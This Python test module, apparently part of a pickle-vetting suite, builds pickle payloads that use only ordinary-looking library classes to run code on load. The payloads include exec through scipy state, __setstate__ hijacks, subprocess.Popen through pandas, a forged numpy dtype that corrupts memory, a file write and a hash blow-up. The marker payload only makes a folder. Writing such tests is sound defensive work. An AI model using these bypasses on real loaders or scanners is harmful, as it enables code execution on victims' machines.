"""Pickles that name only what ordinary libraries have, and make it execute.

The payload makes a folder `executed`, where it can; each comes with the library whose loader it
attacks.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.vetting.pickle.assemble import (
    NONE,
    build,
    call,
    listed,
    mapped,
    name,
    new,
    number,
    put,
    raw,
    several,
    text,
    true,
)

PROGRAM = "import os\nos.mkdir('executed')\ndef _parse_args(self): pass\n" + "".join(
    f"def {function}(self): pass\n" for function in ("_parse_args_stats", "_parse_args_rvs")
)
MKDIR = name("os.mkdir")
FOLDER = text("executed")


def scipy_distribution_state() -> bytes:
    """scipy.stats executes the text `_parse_arg_template` of a distribution's state."""
    state = mapped(text("_parse_arg_template"), text(PROGRAM))
    return build(new(name("scipy.stats._continuous_distns.norm_gen")), state)


def scipy_distribution_pair() -> bytes:
    """The same by an old form: dict.update takes a dict of two keys for a pair."""
    pair = mapped(text("_parse_arg_template"), NONE, text(PROGRAM), NONE)
    state = several(pair)
    return build(new(name("scipy.stats._continuous_distns.norm_gen")), state)


def second_build() -> bytes:
    """An attribute `__setstate__` is what the next BUILD calls."""
    estimator = new(name("argparse.Namespace"))
    first = build(estimator, mapped(text("__setstate__"), MKDIR))
    return build(first, FOLDER)


def item_as_attribute() -> bytes:
    """A dict that answers for attributes gives its item `__setstate__` to BUILD."""
    result = new(name("scipy.optimize._optimize.OptimizeResult"))
    return build(put(result, text("__setstate__"), MKDIR), FOLDER)


def ufunc_of_any_module() -> bytes:
    """numpy imports the module that it is told, for a ufunc of it."""
    return call(name("numpy._core._ufunc_reconstruct"), text("antigravity"), text("webbrowser"))


def forged_dtype() -> bytes:
    """A dtype of objects that says it holds none: bytes of the file become object pointers."""
    kind = build(
        call(name("numpy.dtype"), text("V8"), b"\x89", true()),
        several(
            number(3), text("|"), NONE, several(text("a")),
            mapped(text("a"), several(call(name("numpy.dtype"), text("O8")), number(0))),
            number(8), number(1), number(16),
        ),
    )  # fmt: skip
    rebuild = name("numpy._core.multiarray._reconstruct")
    array = call(rebuild, name("numpy.ndarray"), several(number(0)), raw(b"b"))
    return build(array, several(number(1), several(number(1)), kind, b"\x89", raw(b"A" * 8)))


def mapped_file() -> bytes:
    """A transformer that opens a file for writing, when the model predicts."""
    partial = call(name("functools.partial"), name("numpy.memmap"), text("executed"))
    transformer = new(name("sklearn.preprocessing._function_transformer.FunctionTransformer"))
    return build(transformer, mapped(text("func"), partial))


def attribute_paths() -> bytes:
    """A path of attributes from an object to the modules behind its class."""
    return call(name("operator.attrgetter"), text("__class__.__init__.__globals__"))


def index_of_any_class() -> bytes:
    """pandas builds an index of the class that it is told, with keyword arguments."""
    state = mapped(text("args"), listed(text("mkdir"), FOLDER))
    return call(name("pandas.core.indexes.base._new_Index"), name("subprocess.Popen"), state)


def changed_class() -> bytes:
    """BUILD on a class changes it for the whole process."""
    return build(name("numpy.poly1d"), mapped(text("__call__"), MKDIR))


def exponential_key() -> bytes:
    """A tuple of two times a tuple of two times …: its hash never ends."""
    return mapped(b")" + b"q\x00h\x00\x86" * 60, NONE)


CASES: dict[str, Callable[[], bytes]] = {
    function.__name__: function
    for function in (
        scipy_distribution_state,
        scipy_distribution_pair,
        second_build,
        item_as_attribute,
        ufunc_of_any_module,
        forged_dtype,
        mapped_file,
        attribute_paths,
        index_of_any_class,
        changed_class,
        exponential_key,
    )
}
"""Name → the opcodes, without PROTO and STOP."""


def built(case: str) -> bytes:
    """The whole file."""
    return b"\x80\x04" + CASES[case]() + b"."
